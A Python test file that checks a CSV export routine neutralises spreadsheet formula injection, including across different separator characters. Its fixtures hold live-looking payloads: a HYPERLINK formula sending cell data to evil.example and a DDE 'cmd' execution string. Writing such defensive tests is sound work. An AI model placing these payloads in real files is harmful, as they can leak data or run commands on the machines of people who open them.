"""CSV downloads: a database text that a spreadsheet would evaluate as a formula arrives as text."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from copilot_core.render_safety import csv_bytes
from copilot_core.tools.store import DataStore

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "plain note", "Q05 - ok"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_formula_cells_and_headers_are_neutralised_and_numbers_kept():
    frame = pd.DataFrame({"note": HOSTILE, "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, -8.25],
                          "=cmd()": ["a"] * len(HOSTILE)})
    rows = _cells(csv_bytes(frame))
    assert rows[0] == ["note", "value", "'=cmd()"]
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'-2+3", "'@SUM(A1:A9)", "'\t=1+1",
                                        "'\r=1+1", "plain note", "Q05 - ok"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "6.0", "7.0", "-8.25"]


def test_the_copilot_datasets_download_through_the_same_writer():
    store = DataStore()
    store.put("notes", {}, pd.DataFrame({"message": ["=HYPERLINK(\"https://evil.example\")", "fine"]}))
    assert [r[0] for r in _cells(store.to_csv("notes"))] == ["message", "'=HYPERLINK(\"https://evil.example\")", "fine"]


SEPARATED = ['note;=HYPERLINK("https://evil.example/?"&A1)', "a,+cmd|' /C calc'!A0", "a\t@SUM(A1:A9)",
             'x; "=1+1', "y;\t-2+3", "ok; fine, thanks", "Q05;Q06"]


def _numeric(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_separator_a_spreadsheet_may_split_on_starts_a_formula(separator):
    """Read as a spreadsheet in each locale reads it: on the separator, with quotes honoured, and split blindly
    (a reader that ignores quotes): no text field starts with a formula character."""
    frame = pd.DataFrame({"note": SEPARATED, "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0]})
    text = csv_bytes(frame).decode("utf-8")
    quoted = [f for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for f in row]
    blind = [f for line in text.split("\r\n") for f in line.split(separator)]
    for field in quoted + blind:
        shown = field.lstrip(' "\r')  # a cell starting with ' is text to every spreadsheet
        assert _numeric(shown) or not shown.startswith(("=", "+", "-", "@")), (separator, field)
    assert [r[0] for r in _cells(csv_bytes(frame))[1:]][-2:] == ["ok; fine, thanks", "Q05;Q06"]  # plain text kept
